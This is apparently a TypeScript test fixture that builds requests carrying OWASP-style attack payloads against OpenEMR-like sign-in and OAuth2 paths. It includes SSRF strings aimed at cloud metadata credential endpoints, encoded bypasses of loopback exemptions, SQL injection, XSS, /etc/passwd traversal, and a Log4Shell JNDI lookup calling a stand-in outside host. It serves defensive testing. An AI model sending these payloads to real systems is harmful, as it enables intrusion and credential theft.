/**
 * Attacks of the kinds that OWASP's Web Security Testing Guide 4.2 tries (WSTG-INPV-01 XSS, -05 SQL injection, -11 and
 * ATHZ-01 traversal, -19 SSRF), with the ways around an exemption for addresses of the own machine that public lists of
 * SSRF payloads hold.
 */
import { request, type WebRequest } from "./request";

/** Values that nobody may send, wherever. */
const EVERYWHERE: Readonly<Record<string, string>> = {
  "SSRF to the metadata service": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  "SSRF to the metadata service by an open redirect": "http://127.0.0.1:80@169.254.169.254/latest/meta-data/",
  "a file from elsewhere": "http://198.51.100.7/shell.txt",
  "SQL injection": "1' OR 1=1 -- ",
  "SQL injection by UNION": "-1 UNION SELECT username, password FROM users_secure",
  "XSS by a script": "<script>alert(1)</script>",
  "XSS by an event": "<img src=x onerror=alert(1)>",
  traversal: "../../../../etc/passwd",
  Log4Shell: "${jndi:ldap://198.51.100.7/a}",
};

const PLACES = [
  ["outside /oauth2", "/interface/patient_file/summary/demographics.php"],
  ["at sign-in", "/interface/main/main_screen.php"],
  ["at the authorization", "/oauth2/default/authorize"],
  ["at the registration", "/oauth2/default/registration"],
  ["at the token", "/oauth2/default/token"],
] as const;

/** Each kind of attack in each place, in the query, in a form and in JSON. */
export const ATTACKS: ReadonlyArray<readonly [string, WebRequest]> = PLACES.flatMap(([place, path]) =>
  Object.entries(EVERYWHERE).flatMap(([kind, value]) => [
    [`${kind} ${place}, in a query`, request(path, { query: { redirect_uri: value } })] as const,
    [`${kind} ${place}, in a form`, request(path, { form: { redirect_uri: value } })] as const,
    [`${kind} ${place}, in JSON`, request(path, { json: { redirect_uris: [value] } })] as const,
  ]),
);

/** Addresses that pass for one of the own machine and are none; a rule of AWS notices the loopback address in them. */
const LOOPBACK = "http://127.0.0.1:8080/callback";
const DISGUISES: Readonly<Record<string, string>> = {
  "a decimal number": "http://2852039166/latest/",
  "a hexadecimal number": "http://0xa9fea9fe/latest/",
  "an octal number": "http://0251.0376.0251.0376/latest/",
  "IPv4 within IPv6": "http://[::ffff:169.254.169.254]/latest/",
  "the metadata service over IPv6": "http://[fd00:ec2::254]/latest/",
  "a private address": "http://10.0.12.7:3306/",
  "a name of the metadata service": "http://metadata.google.internal/",
  "a user's name before the host": "http://localhost@198.51.100.7/",
};

/** Requests that hold an allowed address beside an attack: the exemption is lost with it. */
export const DISGUISED: ReadonlyArray<readonly [string, WebRequest]> = Object.entries(DISGUISES).flatMap(
  ([kind, value]) => [
    [
      `${kind} in a query`,
      request("/oauth2/default/authorize", { query: { redirect_uri: LOOPBACK, aud: value } }),
    ] as const,
    [
      `${kind} in JSON`,
      request("/oauth2/default/registration", {
        body: JSON.stringify({ redirect_uris: [LOOPBACK], logo_uri: value }).replaceAll("/", "\\/"),
      }),
    ] as const,
  ],
);
